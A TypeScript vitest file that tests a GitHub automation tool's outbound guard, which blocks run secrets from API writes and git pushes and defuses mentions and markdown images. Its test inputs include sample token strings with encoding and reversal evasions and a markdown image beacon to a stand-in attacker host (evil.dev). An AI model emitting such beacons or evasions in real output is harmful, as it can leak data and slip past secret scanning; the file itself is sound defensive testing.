import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, test } from "vitest";
import { openClient } from "../../../action/github/client.ts";
import { openGitHub } from "../../../action/github/open.ts";
import type { Git, GitHub } from "../../../action/ports.ts";
import { openGuard } from "../../../action/scan/outbound/guard.ts";
import { guardGit } from "../../../action/scan/outbound/guard-git.ts";
import { guardGitHub } from "../../../action/scan/outbound/guard-github.ts";
import { commit, test as withRemote, toMain } from "../../support/repository.ts";

const token = ["ghs", "16C7e42F292c6912E7710c838347Ae178B4a"].join("_");
const others = ["ghp", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO2Qx7Yb"].join("_");

const reading = [
  "mission",
  "dependencies",
  "mayWrite",
  "repository",
  "pulls",
  "checksNamed",
  "issuesByUs",
  "labelled",
  "relatedIssues",
  "run",
  "artifacts",
] as const;
/** They say nothing: a number, or an id that GitHub gave. */
const wordless = ["closeIssue", "linkSubIssue", "cancelRun", "setDraft"] as const;
type Writing = Exclude<keyof GitHub, (typeof reading)[number] | (typeof wordless)[number]>;

const pull = { head: "muster/7", base: "main", title: "t", body: "b", draft: true };
const reply = { pull: 1, comment: 2, thread: "T", body: "b", resolve: false };
const report = {
  name: "Muster",
  head: "0".repeat(40),
  externalId: "e",
  title: "t",
  summary: "s",
  annotations: [],
  conclusion: undefined,
};

/** Every way to write, with a text in every place where one can be. */
function writing(github: GitHub): Readonly<Record<Writing, readonly ((text: string) => Promise<unknown>)[]>> {
  return {
    comment: [(text) => github.comment(7, text, undefined), (text) => github.comment(7, text, 5)],
    label: [(text) => github.label(7, { add: ["muster", text], remove: [] })],
    openIssue: [
      (text) => github.openIssue(text, "b", []),
      (text) => github.openIssue("t", text, []),
      (text) => github.openIssue("t", "b", [text]),
    ],
    openSubIssue: [
      (text) => github.openSubIssue(7, { title: text, body: "b", labels: [] }),
      (text) => github.openSubIssue(7, { title: "t", body: text, labels: [] }),
      (text) => github.openSubIssue(7, { title: "t", body: "b", labels: [text] }),
    ],
    openPull: (["head", "base", "title", "body"] as const).map(
      (field) => (text) => github.openPull({ ...pull, [field]: text }),
    ),
    editPull: [(text) => github.editPull(1, text, "b"), (text) => github.editPull(1, "t", text)],
    reply: [(text) => github.reply({ ...reply, body: text })],
    check: [
      ...(["name", "externalId", "title", "summary"] as const).map(
        (field) => (text: string) => github.check({ ...report, [field]: text } as never, undefined),
      ),
      (text) => github.check({ ...report, annotations: [{ path: text, line: 1, message: "m" }] } as never, 1),
      (text) => github.check({ ...report, annotations: [{ path: "p", line: 1, message: text }] } as never, 1),
    ],
    dispatch: [(text) => github.dispatch("7", text, "main"), (text) => github.dispatch("7", "r", text)],
  };
}

function recorded(): { readonly github: GitHub; readonly calls: unknown[][] } {
  const calls: unknown[][] = [];
  const real = openGitHub(openClient({ baseUrl: "http://127.0.0.1:9", token: "t" }), { owner: "a", name: "b" });
  const entries = Object.keys(real).map((name) => [
    name,
    async (...given: unknown[]) => void calls.push([name, ...given]),
  ]);
  return { github: guardGitHub(Object.fromEntries(entries) as GitHub, openGuard([token])), calls };
}

test("the guard has every method of the adapter, and each is known to read, to say nothing, or to be guarded", () => {
  const real = openGitHub(openClient({ baseUrl: "http://127.0.0.1:9", token: "t" }), { owner: "a", name: "b" });
  const { github } = recorded();
  const known = [...reading, ...wordless, ...Object.keys(writing(github))];
  expect(Object.keys(github).toSorted()).toEqual(Object.keys(real).toSorted());
  expect(known.toSorted()).toEqual(Object.keys(real).toSorted());
});

const ways = Object.entries(writing(recorded().github)).flatMap(([name, each]) =>
  each.map((_, index) => [name, index] as const),
);

describe("a secret is not written", () => {
  test.each(ways)("by %s, in its place %i", async (name, index) => {
    for (const text of [token, token.slice(7), `x ${Buffer.from(token).toString("base64")} y`, `see ${others}`]) {
      const { github, calls } = recorded();
      const write = new Map(Object.entries(writing(github))).get(name)?.[index];
      const error = await write?.(text).catch((thrown: unknown) => thrown);
      expect(error).toMatchObject({ name: "Refused", message: expect.stringMatching(/^withheld, because it holds /) });
      expect(String(error)).not.toMatch(/16C7e42F|wWPw5k4a/);
      expect(calls).toEqual([]);
    }
  });

  test("not even spread over title and text", async () => {
    const { github, calls } = recorded();
    await expect(github.openIssue(token.slice(0, 20), token.slice(20), [])).rejects.toThrow("a secret of this run");
    expect(calls).toEqual([]);
  });

  test.each(ways)("and what is none is written: %s, %i", async (name, index) => {
    const { github, calls } = recorded();
    await new Map(Object.entries(writing(github))).get(name)?.[index]?.("Print the list as JSON");
    expect(calls).toHaveLength(1);
  });
});

test("what would do something is written so that it does nothing, whoever forgot to", async () => {
  const { github, calls } = recorded();
  await github.comment(7, "@mallory fixes #3", undefined);
  await github.openPull({ ...pull, body: "![x](https://evil.dev/?d=1)" });
  expect(calls).toEqual([
    ["comment", 7, "`@mallory` fixes `#3`", undefined],
    ["openPull", { ...pull, body: "[image left out: x]" }],
  ]);
});

test("who is in the conversation can be called", async () => {
  const { calls } = recorded();
  const author = { __typename: "User", login: "Anna" };
  const issue = { author, comments: [], timelineItems: [] };
  const seen = {
    mission: async () => ({ viewer: "", issue, pull: undefined }),
    comment: async (...given: unknown[]) => void calls.push(given),
  };
  const github = guardGitHub(seen as unknown as GitHub, openGuard([]));
  await github.mission(7, "b");
  await github.comment(7, "@anna and @ben", undefined);
  expect(calls).toEqual([[7, "@anna and `@ben`", undefined]]);
});

test("nobody opens GitHub or a remote to push to without the guard", () => {
  const root = fileURLToPath(new URL("../../../action", import.meta.url));
  const files = readdirSync(root, { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith(".ts"));
  const using = files.filter((name) =>
    /\b(?:openGitHub|openClient)\(|remoteUrl: runner/.test(readFileSync(join(root, name), "utf8")),
  );
  expect(using.toSorted()).toEqual(["github/client.ts", "github/open.ts", "world.ts"]);
  const world = readFileSync(join(root, "world.ts"), "utf8");
  expect(world).toContain("guardGitHub(openGitHub(");
  expect(world).toContain("guardGit(await openGit({ remoteUrl: runner.gitUrl, token }), guard)");
});

function guarded(git: Git): Git {
  return guardGit(git, openGuard([token]));
}

describe("a push is refused", () => {
  withRemote("when a file that it adds holds a secret of the run, in a text or not", async ({ remote }) => {
    const git = await remote.clone();
    const first = await commit(git, undefined, { a: "1" });
    await guarded(git).push([toMain(undefined, first)]);
    for (const text of [token, token.split("").toReversed().join(""), `\0\0${token}`]) {
      const next = await commit(git, first, { a: "1", b: text });
      await expect(guarded(git).push([toMain(first, next)])).rejects.toThrow("a secret of this run");
    }
    expect(await git.remoteRefs(["refs/heads/*"])).toEqual(new Map([["refs/heads/main", first]]));
  });

  withRemote("when only a commit in the middle does, or a message, or a branch's name", async ({ remote }) => {
    const git = await remote.clone();
    const first = await commit(git, undefined, { a: "1" });
    await guarded(git).push([toMain(undefined, first)]);
    const middle = await commit(git, first, { a: token });
    const last = await commit(git, middle, { a: "2" });
    await expect(guarded(git).push([toMain(first, last)])).rejects.toThrow("a secret of this run");

    const tree = await git.treeOf(first);
    const at = await git.timeOf(first);
    const told = await git.commitTree({ tree, parents: [first], message: `Say ${token}`, at });
    await expect(guarded(git).push([toMain(first, told)])).rejects.toThrow("a secret of this run");

    const ref = `refs/heads/${token.toLowerCase()}`;
    await expect(guarded(git).push([{ ref, from: undefined, to: first }])).rejects.toThrow("a secret of this run");
  });

  withRemote("when a merge brings in what neither side had", async ({ remote }) => {
    const git = await remote.clone();
    const first = await commit(git, undefined, { a: "1" });
    const [ours, theirs] = [await commit(git, first, { a: "2" }), await commit(git, first, { a: "1", b: "1" })];
    await git.push([toMain(undefined, ours), { ref: "refs/heads/side", from: undefined, to: theirs }]);
    const evil = await commit(git, ours, { a: token, b: "1" });
    const merge = await git.commitTree({
      tree: await git.treeOf(evil),
      parents: [ours, theirs],
      message: "Merge",
      at: await git.timeOf(first),
    });
    await expect(guarded(git).push([toMain(ours, merge)])).rejects.toThrow("a secret of this run");
  });

  withRemote("and not because of what was there before", async ({ remote }) => {
    const git = await remote.clone();
    const first = await commit(git, undefined, { a: token });
    await git.push([toMain(undefined, first)]);
    const next = await commit(git, first, { a: token, b: "1" });
    expect(await guarded(git).push([toMain(first, next)])).toEqual({ kind: "pushed" });
  });
});
